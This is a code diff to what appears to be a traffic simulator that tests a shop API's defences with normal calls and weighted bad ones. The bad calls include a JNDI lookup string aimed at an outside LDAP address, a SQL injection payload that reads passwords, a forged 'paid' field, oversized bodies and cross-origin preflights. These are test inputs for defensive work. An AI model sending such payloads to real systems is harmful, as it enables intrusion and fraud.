@@ -27,6 +27,7 @@ SKUS = ("mug-001", "mug-002", "tea-001", "tea-002", "pot-001")
 CUSTOMERS = ("Ada", "Björn", "Chidi", "Dolores O'Neill", "Émile", "Фатима", "Grace", "許")
 BLOCKED = "127.0.0.66"
 DEEP = "[" * 60 + "]" * 60
+LARGE = json.dumps({"customer": "A" * 70_000, "lines": []})
 LOOKUP = "${jndi:ldap://203.0.113.9/a}"
 SQL = "x' UNION SELECT password FROM users--"
 
@@ -66,6 +67,16 @@ def _one(chance: random.Random, who: str, method: str, version: str, credential:
     )
 
 
+def _preflight(origin: str) -> Call:
+    """What a browser asks before a page of this origin may send a token."""
+    fields = (
+        ("Origin", origin),
+        ("Access-Control-Request-Method", "GET"),
+        ("Access-Control-Request-Headers", "authorization"),
+    )
+    return Call("nobody", "OPTIONS", "/sales/v2/orders", "none", headers=fields)
+
+
 HABITS: tuple[tuple[int, Callable[[random.Random], Call]], ...] = (
     # The web shop does what it should, most of the time.
     (20, lambda chance: Call("storefront", "GET", f"/shop/v1/products/{chance.choice(SKUS)}")),
@@ -85,6 +96,12 @@ HABITS: tuple[tuple[int, Callable[[random.Random], Call]], ...] = (
     # The monthly figures want everything, on a trial plan.
     (3, lambda _: Call("reports", "GET", "/sales/v2/orders?limit=100")),
     (2, lambda _: Call("reports", "GET", "/inventory/v1/forecast/mug-001", headers=(("X-Release", "next"),))),
+    # The stall on the market sells, and sometimes a customer thinks better of it.
+    (2, lambda chance: Call("market", "POST", "/sales/v2/orders", body=_order(chance))),
+    # Pages of the web shop, crawlers, and receipts with an address of yesterday.
+    (2, lambda _: _preflight("https://shop.example.com")),
+    (1, lambda _: Call("nobody", "GET", "/robots.txt", "none")),
+    (1, lambda chance: Call("nobody", "GET", f"/orders/{chance.randint(1, 99)}", "none")),
 )
 
 MISTAKES: tuple[tuple[int, Callable[[random.Random], Call]], ...] = (
@@ -99,6 +116,16 @@ MISTAKES: tuple[tuple[int, Callable[[random.Random], Call]], ...] = (
     (3, lambda _: Call("warehouse", "GET", "/sales/v2/orders", "other audience")),
     (6, lambda _: Call("kiosk", "POST", "/sales/v1/orders", body=DEEP)),
     (6, lambda _: Call("storefront", "POST", "/sales/v2/orders", body='{"customer": "", "lines": []}')),
+    (
+        3,
+        lambda chance: Call(
+            "market", "POST", "/sales/v2/orders", body=_order(chance)[:-1] + ', "paid": true}'
+        ),
+    ),
+    (3, lambda chance: _one(chance, "market", "DELETE", "v2")),
+    (2, lambda _: Call("storefront", "POST", "/sales/v2/orders", body=LARGE)),
+    (2, lambda _: Call("storefront", "GET", f"/sales/v2/orders?sku={'mug-001,' * 200}")),
+    (2, lambda _: _preflight("https://shop.example.net")),
     (3, lambda chance: Call("storefront", "POST", "/sales/v2/orders", body=_order(chance, LOOKUP))),
     (9, lambda _: Call("storefront", "GET", f"/sales/v2/orders?sku={quote(SQL)}")),
     (3, lambda _: Call("storefront", "GET", "/sales/v2/orders", source=BLOCKED)),
